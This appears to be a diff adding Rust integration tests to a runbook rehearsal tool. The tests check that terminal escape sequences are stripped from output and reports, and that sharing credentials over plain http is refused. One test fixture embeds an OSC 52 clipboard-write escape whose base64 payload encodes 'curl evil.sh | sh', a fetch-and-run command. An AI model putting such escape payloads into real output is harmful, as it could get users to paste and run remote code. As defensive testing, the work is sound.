@@ -348,6 +348,118 @@ fn unset_secrets_stand_in_on_the_simulator_and_are_needed_when_commands_run() {
     );
 }
 
+/// Command output and notes with terminal escapes (an OSC 52 clipboard write, a window title,
+/// cursor moves, colours) are kept in the log as written, but neither the headless run's
+/// output nor the Markdown (or HTML) report passes them on raw.
+#[test]
+fn terminal_escapes_in_output_and_notes_reach_neither_the_terminal_nor_the_report() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let rb = dir.path().join("esc.toml");
+    std::fs::write(
+        &rb,
+        r#"
+[runbook]
+id = "esc"
+title = "Escapes in output and notes"
+component = "web"
+
+[[step]]
+id = "say"
+title = "A command that prints escapes"
+kind = "command"
+argv = ["printf", "%s\n", "before \u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 \u001b[31mred\u001b[0m \u001b[2J\u001b]0;pwned\u001b\\after"]
+destructive = false
+
+[[step]]
+id = "confirm"
+title = "Someone confirms"
+kind = "manual"
+depends_on = ["say"]
+instructions = "Confirm."
+"#,
+    )
+    .expect("runbook");
+    let answers = dir.path().join("esc-answers.toml");
+    std::fs::write(
+        &answers,
+        "[manual]\n\"*\" = { outcome = \"ok\", note = \"noted \\u001b]52;c;ZXZpbA==\\u0007 and \\u001b[1;1H\\u001b[2Kthere\" }\n",
+    )
+    .expect("answers");
+    let o = Command::new(env!("CARGO_BIN_EXE_drbook"))
+        .args(["rehearse", "--target", "sim", "--non-interactive"])
+        .args(["--auto-approve", "--run-commands", "--max-delay", "200ms"])
+        .arg(&rb)
+        .arg("--answers")
+        .arg(&answers)
+        .arg("--log-dir")
+        .arg(dir.path().join("logs"))
+        .output()
+        .expect("run drbook");
+    let raw = |t: &str| t.contains(['\x1b', '\x07', '\u{9b}', '\u{9d}']) || t.contains("]52;");
+    let out = text(&o);
+    assert_eq!(o.status.code(), Some(0), "{out}");
+    assert!(!raw(&out), "escapes on the terminal: {out:?}");
+    assert!(out.contains("before  red after"), "{out}");
+    assert!(out.contains("noted  and there"), "{out}");
+    let log = the_log(dir.path());
+    let (events, _) = read_log(&log).expect("readable");
+    assert!(
+        events.iter().any(
+            |e| matches!(&e.kind, EventKind::OutputLine { line, .. } if line.contains("\x1b]52;"))
+        ),
+        "the log keeps the output as it was"
+    );
+    for format in ["md", "html"] {
+        let r = Command::new(env!("CARGO_BIN_EXE_drbook"))
+            .args(["report", "--format", format])
+            .arg(&log)
+            .output()
+            .expect("run drbook report");
+        let report = text(&r);
+        assert!(r.status.success(), "{report}");
+        assert!(!raw(&report), "escapes in the {format} report: {report:?}");
+        assert!(report.contains("noted  and there"), "{report}");
+    }
+}
+
+/// `--share` over plain http to another machine is refused before anything is sent or opened,
+/// whatever credential the environment holds, and the message shows no secret.
+#[test]
+fn a_share_over_plain_http_to_another_machine_is_refused_before_anything_is_sent() {
+    let dir = tempfile::tempdir().expect("tmp");
+    for (env, value) in [
+        ("AZURE_STORAGE_KEY", drbook::blob::DEV_KEY),
+        (
+            "AZURE_STORAGE_SAS_TOKEN",
+            "sv=2022-11-02&sr=c&sp=racw&sig=TOPSECRET",
+        ),
+    ] {
+        let o = Command::new(env!("CARGO_BIN_EXE_drbook"))
+            .current_dir(env!("CARGO_MANIFEST_DIR"))
+            .env_remove("AZURE_STORAGE_KEY")
+            .env_remove("AZURE_STORAGE_SAS_TOKEN")
+            .env(env, value)
+            .args(["rehearse", "runbooks/network.toml", "--target", "sim"])
+            .args(["--non-interactive", "--auto-approve", "--share"])
+            .arg("http://stdrshared.blob.core.windows.net/incidents/INC-1")
+            .arg("--log-dir")
+            .arg(dir.path().join("logs"))
+            .output()
+            .expect("run drbook");
+        let out = text(&o);
+        assert_eq!(o.status.code(), Some(2), "{env}: {out}");
+        assert!(
+            out.contains("--share") && out.contains("plain http"),
+            "{out}"
+        );
+        assert!(
+            !out.contains("TOPSECRET") && !out.contains(&value[..12]),
+            "{out}"
+        );
+        assert!(!dir.path().join("logs").exists(), "no incident was opened");
+    }
+}
+
 /// The TUI without a terminal (a script that forgot --non-interactive) is refused before an
 /// incident is opened: no empty log is left behind to be mistaken for one.
 #[test]
